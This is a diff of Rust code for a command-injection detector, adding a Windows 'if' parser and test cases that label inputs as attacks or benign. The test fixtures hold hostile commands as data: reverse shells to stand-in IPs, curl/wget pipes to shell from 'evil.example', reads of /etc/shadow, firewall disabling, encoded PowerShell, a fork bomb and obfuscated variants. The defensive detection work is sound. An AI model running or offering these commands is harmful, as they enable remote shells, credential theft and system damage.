+                    if out.len() >= 12 {
+                        return out;
+                    }
+                }
+            } else {
+                cur.push(c);
+            }
+        }
+        if !cur.is_empty() {
+            out.push(cur);
+        }
+        out
+    }
+
+    /// `if [/i] [not] (exist x|defined x|errorlevel n|a==b|a equ b) command` (lowercased).
+    fn cmd_if(seg: &str) -> bool {
+        let Some(rest) = seg.strip_prefix("if") else {
+            return false;
+        };
+        let rest = match rest.strip_prefix("/i") {
+            Some(r) if r.starts_with([' ', '\t']) => r,
+            _ => rest,
+        };
+        // Braces and "cond:" belong to C, JavaScript and Python.
+        let unquoted: String = rest.split('"').step_by(2).collect::<Vec<_>>().join("\"\"");
+        let t = unquoted.trim_end();
+        if !rest.starts_with([' ', '\t']) || t.contains('{') || t.ends_with(':') || t.contains(": ")
+        {
+            return false;
+        }
+        let words = quoted_words(rest);
+        let mut words = words
+            .iter()
+            .map(String::as_str)
+            .skip_while(|w| *w == "/i" || *w == "not");
+        let Some(first) = words.next() else {
+            return false;
+        };
+        let remaining: Vec<&str> = words.collect();
+        if let Some(inner) = first.strip_prefix('(') {
+            // cmd.exe compares with words inside parentheses: "if not (2 equ 2) echo".
+            let op = remaining.first().is_some_and(|w| CMP.contains(w));
+            return !inner.is_empty() && op && remaining.len() >= 3;
+        }
+        if matches!(first, "exist" | "defined" | "errorlevel" | "cmdextversion") {
+            return remaining.len() >= 2;
+        }
+        // The comparison stands outside parentheses ("if (a == b)" is C or JavaScript).
+        if first.starts_with('(') && !first.ends_with(')') {
+            return false;
+        }
+        let eq = first.contains("==") && !first.ends_with("==") || remaining.first() == Some(&"==");
+        let op = remaining.first().is_some_and(|w| CMP.contains(w));
+        let need = if first.contains("==") && !first.ends_with("==") {
+            1
+        } else {
+            3
+        };
+        (eq || op) && remaining.len() >= need
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -1629,10 +2276,6 @@ mod tests {
             "wget", "curl", "nc", "grep", "sort", "more", "file", "who", "find", "sh", "bash",
             "cut", "python3", "set", "cd", "kill", "head", "type",
         ])
-    }
-
-    fn flagged(text: &str) -> bool {
-        det().inspect(text).is_some()
     }
 
     #[track_caller]
@@ -1801,8 +2444,6 @@ mod tests {
         attack("`cut crs312``dig 34test`");
         attack("\nid");
         attack("x\ncat /etc/passwd");
-        benign("ls -la /tmp");
-        benign("find . -exec cat {} \\;");
         benign(";$a $b $c");
     }
 
@@ -1822,10 +2463,161 @@ mod tests {
     }
 
     #[test]
-    fn prefilter_skips_values_without_shell_bytes() {
-        assert!(!flagged("cat /etc/passwd"));
-        assert!(!flagged("w'h'o'am'i"));
-        assert!(!flagged("a < b and c > d"));
+    fn whole_value_command_lines() {
+        for t in [
+            "ls -la /tmp",
+            "ls -l /etc/passwd",
+            "cat /etc/shadow",
+            "find . -exec cat {} \\;",
+            "w'h'o'am'i /",
+            "/bin/cat /etc/passwd",
+            "sort -r /etc/group",
+        ] {
+            attack(t);
+        }
+        for t in [
+            "a < b and c > d",
+            "sort by price",
+            "find my order",
+            "cat pictures",
+            "cat",
+            "file a complaint",
+            "more info please",
+            "date night ideas",
+            "/api/test",
+            "time flies",
+        ] {
+            benign(t);
+        }
+    }
+
+    fn tools() -> CmdiDetector {
+        det().with_tools()
+    }
+
+    #[track_caller]
+    fn tool_attack(text: &str) {
+        let f = tools().inspect(text);
+        assert!(f.is_some(), "missed attack {text:?}");
+    }
+
+    #[track_caller]
+    fn tool_benign(text: &str) {
+        let f = tools().inspect(text);
+        assert!(f.is_none(), "false positive on {text:?}: {f:?}");
+    }
+
+    #[test]
+    fn attacker_tools_count_when_absent_from_path() {
+        for t in [
+            "nc -e /bin/sh 10.0.0.1 4444",
+            "ncat 10.1.2.3 9001 -e /bin/bash",
+            "wget http://203.0.113.9/x.sh",
+            "curl -s https://evil.example/p.sh | sh",
+            "wget -O- http://203.0.113.9/i | bash",
+            "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
+            "python3 -c 'import socket,os;s=socket.socket()'",
+            "perl -e 'exec \"/bin/sh\"'",
+            "whoami",
+            "ifconfig",
+            "sleep 7",
+            "ping 192.0.2.1",
+            "netstat -tulpn",
+            "sudo whoami",
+            "echo aWQ= | base64 -d | sh",
+        ] {
+            tool_attack(t);
+        }
+        for t in [
+            "sleep 8 hours a night",
+            "ping me when you are back",
+            "net profit for the year",
+            "net use of funds",
+            "python is my favourite language",
+            "node modules are large",
+            "curl your hair",
+            "add-on pack",
+            "set-up guide",
+        ] {
+            tool_benign(t);
+        }
+    }
+
+    #[test]
+    fn windows_command_lines() {
+        for t in [
+            "ipconfig /all",
+            "net localgroup administrators eve /add",
+            "netsh advfirewall set allprofiles state off",
+            "type C:\\Windows\\win.ini",
+            "dir c:\\",
+            "cmd /c whoami",
+            "cmd.exe /k ver",
+            "powershell -enc SQBFAFgA",
+            "powershell.exe -EncodedCommand SQBFAFgA",
+            "Invoke-WebRequest http://192.0.2.7/a.ps1 -OutFile a.ps1",
+            "& w^h^o^a^m^i",
+            "%COMSPEC% /c dir",
+            "%ProgramFiles:~10,1%%ProgramFiles:~5,1%d",
+            "for /f \"tokens=*\" %i in ('whoami') do echo %i",
+            "FOR %x IN (a,b) DO calc",
+            "| for /l %n in (1,1,9) do ping -n 2 192.0.2.1",
+            "if exist C:\\boot.ini type C:\\boot.ini",
+            "IF /I \"%X%\" EQU \"1\" echo one",
+            "if not (1 equ 1) echo x",
+            "dir+c:\\",
+        ] {
+            tool_attack(t);
+        }
+        for t in [
+            "For more details, see the FAQ (section 3) do not hesitate",
+            "if request.method == 'POST':",
+            "if (a == b) { run(); }",
+            "If you exist in our records, please sign in",
+            "type your name here",
+            "Directory: C:\\Users\\me\\Documents",
+            "Discount 50% off, 20% more",
+        ] {
+            tool_benign(t);
+        }
+    }
+
+    #[test]
+    fn obfuscation_in_whole_values() {
+        for t in [
+            "$'\\x63\\x61\\x74' /etc/passwd",
+            "{,cat,/etc/passwd}",
+            "/b[i]n/c[a]t /etc/hosts",
+            "c\\at${IFS}/etc/passwd",
+            "\\nid;",
+            "'\\n/bin/ls -la\\n'",
+            "() { :; }; echo vulnerable",
+            ":(){ :|:& };:",
+            "exec 5<>/dev/tcp/198.51.100.3/80",
+        ] {
+            tool_attack(t);
+        }
+        for t in [
+            "Use \\n to start a new line",
+            "() => { init() }",
+            "foo() { return 1 }",
+        ] {
+            tool_benign(t);
+        }
+    }
+
+    #[test]
+    fn documentation_transcripts_and_fences_pass() {
+        for t in [
+            "```python\nimport os\nprint(os.getcwd())\n```",
+            "```sh\n$ pip install flask | tee log.txt\n```",
+            "Run this:\n\n    $ netstat -nlp | grep 5000",
+            "pip install pytest\n    pip install -e .  # editable install",
+            "| name | value |\n|------|-------|\n| sort | true |",
+            "<h2>Title</h2>\n<p>for more see the docs</p>",
+        ] {
+            tool_benign(t);
+        }
     }
 
     #[test]
